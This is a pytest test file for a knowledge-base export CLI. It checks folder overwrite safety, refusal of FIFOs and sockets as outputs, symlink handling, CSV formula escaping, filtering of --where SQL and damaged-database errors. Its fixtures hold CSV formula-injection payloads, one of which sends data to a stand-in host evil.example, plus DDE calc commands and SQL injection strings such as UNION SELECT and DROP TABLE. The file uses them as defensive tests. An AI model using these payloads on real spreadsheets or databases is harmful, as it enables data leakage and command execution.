"""`claimscope export` against what an attack review tried: folders, devices, formulas, SQL and damaged files."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import signal
import socket
import sqlite3
import stat
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import claimscope.db.export as export_module
from claimscope.db.export import FOLDER_MARKER, ExportError, Scope, check_where, neighbourhood
from claimscope.tui.cli import main
from conftest import ROOT, damaged

TABLES = ("sources", "predicates", "entities", "aliases", "claims", "evidence", "disputes")
# Runs for ever on the shipped knowledge base (its claims four times over), reading only what it may.
SLOW_WHERE = ("id IN (SELECT e.id FROM entities e, claims a, claims b, claims c, claims d "
              "WHERE a.id || b.id || c.id || d.id = 'none')")


def run(*arguments: str, expect: int = 0) -> Any:
    result = CliRunner().invoke(main, ["export", *arguments], catch_exceptions=False)
    assert result.exit_code == expect, result.output
    assert "Traceback" not in result.output
    return result


def everything_under(folder: Path) -> list[str]:
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*"))


# -- item 4: a CSV folder export replaces only an empty folder or an earlier export ---------------------------


def test_a_folder_holding_only_the_users_claims_csv_is_refused_and_kept(shipped_db: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "claims.csv").write_text("my,own,work\n", encoding="utf-8")
    result = run("--format", "csv", "--db", str(shipped_db), "-o", str(mine), expect=2)
    assert str(mine) in result.stderr and "claims.csv" in result.stderr
    assert "not an earlier claimscope export" in result.stderr
    assert (mine / "claims.csv").read_text(encoding="utf-8") == "my,own,work\n"
    assert everything_under(tmp_path) == ["mine", "mine/claims.csv"]  # nothing left beside it either


@pytest.mark.parametrize("marker", [
    "hello",  # a file of that name, not ours
    json.dumps({"format": "claimscope-export-csv", "files": ["../outside.csv"]}),
    json.dumps({"format": "claimscope-export-csv", "files": ["notes.txt"]}),
    json.dumps({"format": "something-else", "files": ["claims.csv"]}),
])
def test_a_marker_that_is_not_ours_does_not_make_a_folder_replaceable(shipped_db: Path, tmp_path: Path,
                                                                      marker: str) -> None:
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / FOLDER_MARKER).write_text(marker, encoding="utf-8")
    (folder / "claims.csv").write_text("mine\n", encoding="utf-8")
    (folder / "notes.txt").write_text("mine\n", encoding="utf-8")
    run("--format", "csv", "--db", str(shipped_db), "-o", str(folder), expect=2)
    assert (folder / "claims.csv").read_text(encoding="utf-8") == "mine\n"
    assert (folder / "notes.txt").read_text(encoding="utf-8") == "mine\n"


def test_an_earlier_export_is_replaced_in_place_but_not_a_file_added_to_it(shipped_db: Path, tmp_path: Path) -> None:
    folder = tmp_path / "tables"
    folder.mkdir(mode=0o750)
    inode = folder.stat().st_ino
    run("--format", "csv", "--db", str(shipped_db), "-o", str(folder))
    assert json.loads((folder / FOLDER_MARKER).read_text(encoding="utf-8"))["files"] == sorted(
        f"{table}.csv" for table in TABLES)
    # A table an older export wrote, and a folder a killed export left: both are the export's own.
    marker = json.loads((folder / FOLDER_MARKER).read_text(encoding="utf-8"))
    marker["files"].append("old_table.csv")
    (folder / FOLDER_MARKER).write_text(json.dumps(marker), encoding="utf-8")
    (folder / "old_table.csv").write_text("x\n", encoding="utf-8")
    (folder / ".claimscope-export.abc123.part").mkdir()
    (folder / ".claimscope-export.abc123.part" / "claims.csv").write_text("half\n", encoding="utf-8")
    run("--format", "csv", "--db", str(shipped_db), "-o", str(folder))
    assert sorted(path.name for path in folder.iterdir()) == sorted([FOLDER_MARKER, *(f"{t}.csv" for t in TABLES)])
    # The folder itself stays: its inode, its mode (a shell standing in it is not left in a deleted folder).
    assert folder.stat().st_ino == inode and stat.S_IMODE(folder.stat().st_mode) == 0o750
    (folder / "notes.txt").write_text("keep me\n", encoding="utf-8")
    result = run("--format", "csv", "--db", str(shipped_db), "-o", str(folder), expect=2)
    assert "notes.txt" in result.stderr and "did not write" in result.stderr
    assert (folder / "notes.txt").read_text(encoding="utf-8") == "keep me\n"
    names = [FOLDER_MARKER, "notes.txt", *(f"{table}.csv" for table in TABLES)]
    assert everything_under(tmp_path) == ["tables", *sorted(f"tables/{name}" for name in names)]


def test_the_current_folder_and_a_trailing_slash(shipped_db: Path, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    for _ in range(2):  # into the empty folder, then over the export it holds
        run("--format", "csv", "--db", str(shipped_db), "-o", ".")
        assert sorted(path.name for path in here.iterdir()) == sorted([FOLDER_MARKER, *(f"{t}.csv" for t in TABLES)])
        assert everything_under(tmp_path) == ["here", *sorted(f"here/{path.name}" for path in here.iterdir())]
    (here / "mine.txt").write_text("x", encoding="utf-8")
    assert "mine.txt" in run("--format", "csv", "--db", str(shipped_db), "-o", ".", expect=2).stderr
    assert "mine.txt" in run("--format", "csv", "--db", str(shipped_db), "-o", "./", expect=2).stderr
    assert not [path for path in tmp_path.rglob("*") if path.name.endswith((".old", ".part"))]
    monkeypatch.chdir(tmp_path)
    run("--format", "csv", "--db", str(shipped_db), "-o", "new/")
    run("--format", "csv", "--db", str(shipped_db), "-o", "folder.zip/")  # a trailing / means a folder
    assert (tmp_path / "new" / FOLDER_MARKER).is_file() and (tmp_path / "folder.zip" / "claims.csv").is_file()
    assert "ends in /" in run("--db", str(shipped_db), "-o", "kb.json/", expect=2).stderr
    assert not (tmp_path / "kb.json").exists()


@pytest.mark.parametrize("existing", [False, True])
def test_a_failed_folder_export_leaves_the_folder_as_it_was(shipped_db: Path, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch, existing: bool) -> None:
    folder = tmp_path / "tables"
    if existing:
        run("--format", "csv", "--db", str(shipped_db), "-o", str(folder))
    before = {path.name: path.read_bytes() for path in folder.iterdir()} if existing else None
    real = export_module.write_csv_tables

    def failing(scope: Scope, open_table: Any, guard_formulas: bool = True) -> dict[str, int]:
        with open_table("claims.csv") as handle:
            handle.write("half an export")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export_module, "write_csv_tables", failing)
    result = run("--format", "csv", "--db", str(shipped_db), "-o", str(folder), expect=2)
    assert "No space left" in result.stderr
    monkeypatch.setattr(export_module, "write_csv_tables", real)
    if existing:
        assert {path.name: path.read_bytes() for path in folder.iterdir()} == before
        assert everything_under(tmp_path) == ["tables", *sorted(f"tables/{name}" for name in before or {})]
    else:
        assert everything_under(tmp_path) == []


# -- item 10: formulas in CSV cells ---------------------------------------------------------------------------

HOSTILE_CELLS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "publisher": "+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "grade_note": "-2+3",
    "language": "\t=1+1",
    "url": "\r=1+1",
}


@pytest.fixture
def hostile_db(shipped_db: Path, tmp_path: Path) -> tuple[Path, str]:
    """The shipped knowledge base with formulas in a source's cells; returns it and the source's id."""
    path = tmp_path / "hostile.db"
    shutil.copyfile(shipped_db, path)
    with sqlite3.connect(path) as connection:
        source_id = connection.execute("SELECT id FROM sources ORDER BY id LIMIT 1").fetchone()[0]
        assignments = ", ".join(f"{column} = ?" for column in HOSTILE_CELLS)
        connection.execute(f"UPDATE sources SET {assignments} WHERE id = ?", [*HOSTILE_CELLS.values(), source_id])
    return path, source_id


def source_row(text: str, source_id: str) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return next(row for row in rows if row["id"] == source_id)


def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe(hostile_db: tuple[Path, str],
                                                                   tmp_path: Path) -> None:
    db, source_id = hostile_db
    run("--format", "csv", "--db", str(db), "-o", str(tmp_path / "folder"))
    run("--format", "csv", "--db", str(db), "-o", str(tmp_path / "tables.zip"))
    with zipfile.ZipFile(tmp_path / "tables.zip") as archive:
        zipped = archive.read("sources.csv").decode("utf-8")
    for text in ((tmp_path / "folder" / "sources.csv").read_bytes().decode("utf-8"), zipped):
        row = source_row(text, source_id)
        for column, value in HOSTILE_CELLS.items():
            assert row[column] == "'" + value, column
        assert not row["id"].startswith("'")  # the others as they are
    # Asked for, the cells go out as they are; JSON is never changed.
    run("--format", "csv", "--db", str(db), "-o", str(tmp_path / "raw.zip"), "--csv-formulas")
    with zipfile.ZipFile(tmp_path / "raw.zip") as archive:
        row = source_row(archive.read("sources.csv").decode("utf-8"), source_id)
    assert {column: row[column] for column in HOSTILE_CELLS} == HOSTILE_CELLS
    document = json.loads(run("--db", str(db)).stdout)
    source = next(source for source in document["sources"] if source["id"] == source_id)
    assert {column: source[column] for column in HOSTILE_CELLS} == HOSTILE_CELLS
    assert "--format csv only" in run("--db", str(db), "--csv-formulas", expect=2).stderr


# -- item 3: what -o may be ---------------------------------------------------------------------------------


def test_output_that_is_not_a_regular_file_is_refused_and_left_alone(shipped_db: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    sock_path = tmp_path / "sock"
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(sock_path))
    folder = tmp_path / "folder"
    folder.mkdir()
    try:
        for export_format, target, said in (("json", fifo, "a FIFO"), ("stix", fifo, "a FIFO"),
                                            ("csv", tmp_path / "pipe.zip", "a FIFO"), ("json", sock_path, "a socket"),
                                            ("json", folder, "a directory"), ("csv", fifo, "a FIFO")):
            if target.name == "pipe.zip" and not target.exists():
                os.mkfifo(target)
            result = run("--format", export_format, "--db", str(shipped_db), "-o", str(target), expect=2)
            assert said in result.stderr, result.stderr
        assert stat.S_ISFIFO(fifo.stat().st_mode) and stat.S_ISSOCK(sock_path.stat().st_mode)
        assert list(folder.iterdir()) == []
        assert sorted(path.name for path in tmp_path.iterdir()) == ["folder", "pipe", "pipe.zip", "sock"]
        # A symlink to any of them is refused the same way.
        (tmp_path / "link").symlink_to(fifo)
        assert "a FIFO" in run("--db", str(shipped_db), "-o", str(tmp_path / "link"), expect=2).stderr
        assert (tmp_path / "link").is_symlink()
    finally:
        listener.close()


def test_a_symlink_is_written_through_and_said_so(shipped_db: Path, tmp_path: Path) -> None:
    real = tmp_path / "real.json"
    real.write_text("old", encoding="utf-8")
    real.chmod(0o640)
    link = tmp_path / "link.json"
    link.symlink_to(real)
    result = run("--db", str(shipped_db), "-o", str(link))
    assert f"{link} is a symlink: writing through it to {real}" in result.stderr
    assert link.is_symlink() and json.loads(real.read_text(encoding="utf-8"))["format"] == "claimscope-export"
    assert stat.S_IMODE(real.stat().st_mode) == 0o640
    dangling = tmp_path / "dangling.json"
    dangling.symlink_to(tmp_path / "made.json")
    run("--format", "stix", "--db", str(shipped_db), "-o", str(dangling))
    assert dangling.is_symlink() and (tmp_path / "made.json").is_file()
    folder_link = tmp_path / "tables-link"
    folder_link.symlink_to(tmp_path / "tables", target_is_directory=True)
    (tmp_path / "tables").mkdir()
    assert "writing through it" in run("--format", "csv", "--db", str(shipped_db), "-o", str(folder_link)).stderr
    assert folder_link.is_symlink() and (tmp_path / "tables" / "claims.csv").is_file()
    assert "knowledge base itself" in run("--db", str(shipped_db), "-o", str(_link_to(tmp_path, shipped_db)),
                                          expect=2).stderr


def _link_to(folder: Path, target: Path) -> Path:
    link = folder / "kb-link.db"
    link.symlink_to(target)
    return link


def test_a_dash_is_standard_output(shipped_db: Path) -> None:
    assert json.loads(run("--db", str(shipped_db), "-o", "-").stdout)["format"] == "claimscope-export"
    assert not Path("-").exists()
    assert "standard output" in run("--format", "csv", "--db", str(shipped_db), "-o", "-", expect=2).stderr


# -- item 8: --where ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("where, said", [
    ("1=1)) UNION SELECT name FROM sqlite_master /*", "closes a parenthesis it did not open"),
    ("0)) UNION SELECT NULL /*", "closes a parenthesis it did not open"),
    ("kind = 'group') OR (1", "closes a parenthesis it did not open"),
    ("(kind = 'group'", "left open"),
    ("kind = 'group' -- c", "comment"),
    ("kind = 'group' /* c */", "comment"),
    ("kind = 'group'; DROP TABLE claims", "';'"),
    ("kind = 'group", "never closed"),
    ("", "empty"),
    ("id IN (SELECT name FROM sqlite_master)", "reads sqlite_master"),
    ("id IN (SELECT name FROM sqlite_schema)", "reads sqlite_master"),
    ("id IN (SELECT name FROM main.sqlite_master)", "reads sqlite_master"),
    ("id IN (SELECT name FROM temp.sqlite_master)", "reads sqlite_temp_master"),
    ("id IN (SELECT id FROM entities_fts_data)", "reads entities_fts_data"),
    ("id IN (SELECT rowid FROM entities_fts WHERE entities_fts MATCH 'iskp')", "virtual table"),
    ("id IN (SELECT source_id FROM passages)", "reads passages"),
    ("id IN (SELECT key FROM meta)", "reads meta"),
    ("id IN (SELECT name FROM pragma_table_info('entities'))", "virtual table"),
    ("id IN (WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i FROM n)", "recursive"),
    ("length(randomblob(200000000)) > 0", "too big"),
])
def test_where_that_reaches_outside_its_condition_is_refused(shipped_db: Path, where: str, said: str) -> None:
    result = run("--db", str(shipped_db), "--where", where, "--depth", "0", expect=2)
    assert said in result.stderr and result.stdout == ""


def test_where_may_read_the_knowledge_tables_and_quote_anything(shipped_db: Path) -> None:
    for where in ("kind = 'group' AND name <> 'a); DROP TABLE claims; --'",
                  "\"kind\" = 'group' AND [name] <> ') /*' AND `id` <> 'it''s'",
                  "kind = 'group' AND EXISTS (SELECT 1 FROM claims c JOIN evidence e ON e.claim_id = c.id"
                  " JOIN sources s ON s.id = e.source_id WHERE c.subject_id = entities.id)",
                  "id IN (WITH g AS (SELECT id FROM entities WHERE kind = 'group') SELECT id FROM g)"):
        document = json.loads(run("--db", str(shipped_db), "--where", where, "--depth", "0").stdout)
        assert document["entities"] and {entity["kind"] for entity in document["entities"]} == {"group"}, where
    check_where("a = '('")  # a parenthesis in a literal is not one
    with pytest.raises(ExportError, match="closes"):
        check_where("a = ')' )")


def test_where_is_stopped_after_its_time_limit(shipped_db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    connection = sqlite3.connect(f"file:{shipped_db}?mode=ro", uri=True)
    ctrl_c = signal.getsignal(signal.SIGINT)  # Python's handler, or SIG_IGN when started in the background
    try:
        with pytest.raises(ExportError, match=r"stopped after 0\.3 s"):
            neighbourhood(connection, [], SLOW_WHERE, 0, time_limit=0.3)
        # The connection is as it was: no authorizer, no progress handler, Ctrl-C as before.
        assert connection.execute("SELECT count(*) FROM sqlite_master").fetchone()[0] > 0
        assert signal.getsignal(signal.SIGINT) is ctrl_c
    finally:
        connection.close()
    monkeypatch.setattr(export_module, "WHERE_TIME_LIMIT", 0.3)
    result = run("--db", str(shipped_db), "--where", SLOW_WHERE, expect=2)
    assert "was stopped after 0.3 s" in result.stderr


def test_where_gives_way_to_ctrl_c(shipped_db: Path, tmp_path: Path) -> None:
    target = tmp_path / "kb.json"
    process = subprocess.Popen([sys.executable, "-m", "claimscope", "export", "--db", str(shipped_db), "--where",
                                SLOW_WHERE, "-o", str(target)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               cwd=ROOT, text=True)
    try:
        with pytest.raises(subprocess.TimeoutExpired):
            process.wait(timeout=2)  # well into the condition, which runs for 10 s
        process.send_signal(signal.SIGINT)
        _, stderr = process.communicate(timeout=5)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert process.returncode != 0 and "Traceback" not in stderr
    assert list(tmp_path.iterdir()) == []


# -- item 14: damaged files and files with other tables --------------------------------------------------------


@pytest.mark.parametrize("export_format", ["json", "csv", "stix"])
def test_a_damaged_file_is_a_message_in_every_format(shipped_db: Path, tmp_path: Path, export_format: str) -> None:
    path = damaged(shipped_db, tmp_path)
    target = tmp_path / ("out.zip" if export_format == "csv" else f"out.{export_format}")
    for arguments in (["-o", str(target)], [] if export_format != "csv" else ["-o", str(tmp_path / "folder")],
                      ["--where", "kind = 'group'", "-o", str(target)]):
        result = run("--format", export_format, "--db", str(path), *arguments, expect=2)
        assert f"{path}: the knowledge base cannot be exported" in result.stderr, result.stderr
        assert "rebuild it with `claimscope build --db" in result.stderr and "--where" not in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["damaged.db"]


def test_damage_found_while_streaming_says_the_output_is_incomplete(shipped_db: Path, tmp_path: Path) -> None:
    path = damaged(shipped_db, tmp_path, table="evidence")
    for export_format in ("json", "stix"):
        result = run("--format", export_format, "--db", str(path), expect=2)
        assert "database disk image is malformed" in result.stderr
        assert "what was written to standard output is incomplete" in result.stderr
    target = tmp_path / "kb.json"
    target.write_text("old", encoding="utf-8")
    assert "kb.json was left as it was" in run("--db", str(path), "-o", str(target), expect=2).stderr
    assert target.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["damaged-evidence.db", "kb.json"]


@pytest.mark.parametrize("change", [
    (re.compile(r"CREATE TABLE evidence \(.*?\);", re.S), ""),
    (re.compile(r"\n\s*claimant_id\s+TEXT REFERENCES entities \(id\),"), ""),
    (re.compile(r"entity_id TEXT NOT NULL REFERENCES entities \(id\)"), "owner TEXT"),
    (re.compile(r"CREATE TABLE disputes \(.*?\);", re.S),
     "CREATE VIEW disputes AS SELECT 1 AS dispute_id, 'c' AS claim_id, 'r' AS reason;"),
], ids=["no evidence table", "no claimant column", "aliases without entity_id", "disputes a view"])
def test_a_file_with_other_tables_writes_nothing(shipped_db: Path, tmp_path: Path,
                                                 change: tuple[re.Pattern[str], str]) -> None:
    """The right application id and schema version, but other tables: nothing reaches standard output."""
    from claimscope.db.schema import APPLICATION_ID, SCHEMA_VERSION
    from claimscope.db.schema import TABLES as SCHEMA

    pattern, replacement = change
    assert pattern.search(SCHEMA), pattern
    path = tmp_path / "other.db"
    with sqlite3.connect(path) as connection:
        connection.executescript(pattern.sub(replacement, SCHEMA))
        connection.execute(f"PRAGMA application_id = {APPLICATION_ID}")
        connection.execute(f"PRAGMA user_version = {SCHEMA_VERSION}")
        connection.execute("INSERT INTO meta VALUES ('seed_fingerprint', 'x')")
    connection.close()
    for export_format in ("json", "stix"):
        result = run("--format", export_format, "--db", str(path), expect=2)
        assert result.stdout == "" and "lacks" in result.stderr and str(path) in result.stderr
    assert "lacks" in run("--db", str(path), "--where", "1", expect=2).stderr
    assert "lacks" in run("--format", "csv", "--db", str(path), "-o", str(tmp_path / "t"), expect=2).stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["other.db"]


def test_a_claim_naming_an_entity_the_file_lacks_is_a_message_in_stix(shipped_db: Path, tmp_path: Path) -> None:
    """A file written with its foreign keys unchecked: STIX cannot relate a claim to nothing."""
    path = tmp_path / "dangling.db"
    shutil.copyfile(shipped_db, path)
    with sqlite3.connect(path) as connection:
        connection.execute("UPDATE claims SET subject_id = 'nobody' WHERE rowid = "
                           "(SELECT min(rowid) FROM claims WHERE object_id IS NOT NULL)")
    connection.close()
    result = run("--format", "stix", "--db", str(path), expect=2)
    assert "names the entity 'nobody'" in result.stderr and "incomplete" in result.stderr
    target = tmp_path / "bundle.json"
    assert "was not written" in run("--format", "stix", "--db", str(path), "-o", str(target), expect=2).stderr
    assert not target.exists()
